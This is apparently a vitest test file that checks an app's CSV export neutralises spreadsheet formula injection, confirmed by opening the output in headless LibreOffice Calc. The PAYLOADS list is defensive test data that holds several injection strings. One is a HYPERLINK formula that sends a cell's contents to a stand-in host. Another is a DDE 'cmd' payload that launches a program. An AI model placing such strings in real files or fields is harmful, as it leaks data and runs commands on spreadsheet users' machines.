// Every CSV the app writes opens in a spreadsheet with no live formula, whatever another site typed.
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { actionsCsv } from '../../../shared/dossier/csv-export';
import { csvCell, neutraliseFormula } from '../../../shared/format/csv-cell';
import { demoDossiers } from '../helpers/demo';
import { hasTool } from '../helpers/tools';

const PAYLOADS = [
  '=HYPERLINK("http://exemple.invalid/?x="&A1;"Cliquer")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1;2)',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
];

/** Opens `csv` in LibreOffice Calc (semicolon-separated, UTF-8) and returns the flat ODF spreadsheet. */
function openInCalc(csv: string): string {
  const dir = mkdtempSync(path.join(tmpdir(), 'ctai-csv-'));
  const file = path.join(dir, 'export.csv');
  writeFileSync(file, csv);
  execFileSync(
    'soffice',
    ['--headless', '--norestore', '--infilter=CSV:59,34,76,1', '--convert-to', 'fods', '--outdir', dir, file],
    { stdio: 'pipe', timeout: 120_000, env: { ...process.env, HOME: dir } },
  );
  return readFileSync(path.join(dir, 'export.fods'), 'utf8');
}

describe('CSV cells', () => {
  it('prefix an apostrophe to text a spreadsheet would evaluate, and only to it', () => {
    for (const payload of PAYLOADS) expect(neutraliseFormula(payload)).toBe(`'${payload}`);
    expect(neutraliseFormula('Ateliers de français')).toBe('Ateliers de français');
    expect(neutraliseFormula('-12,50')).toBe('-12,50');
    expect(neutraliseFormula('2026')).toBe('2026');
    expect(csvCell('=1;2')).toBe(`"'=1;2"`);
  });
});

describe.skipIf(!hasTool('soffice'))('the actions CSV opened in LibreOffice Calc', () => {
  it('holds no formula when every text field carries a formula payload', () => {
    const dossier = structuredClone(demoDossiers({ count: 1, seed: 11 })[0]!);
    const [first, ...others] = PAYLOADS;
    dossier.collectivite.nom = first!;
    dossier.collectivite.departement.nom = '=1+1';
    dossier.actions = dossier.actions.slice(0, 1);
    const action = dossier.actions[0]!;
    action.budgets = action.budgets.slice(0, 1);
    action.intitule = others.join(' ');
    action.porteur.nom = '@SUM(1;2)';
    const sheet = openInCalc(actionsCsv([dossier]));
    expect(sheet).not.toMatch(/table:formula=/);
    expect(sheet).toContain('HYPERLINK(');
    expect(sheet).toContain('@SUM(1;2)');
  }, 120_000);

  it('(control) would hold formulas had the cells been written as typed', () => {
    const sheet = openInCalc(`A;B\r\n${PAYLOADS[0]!.replace(/"/g, '""').replace(/^/, '"').concat('"')};+1+1\r\n`);
    expect(sheet).toMatch(/table:formula=/);
  }, 120_000);
});
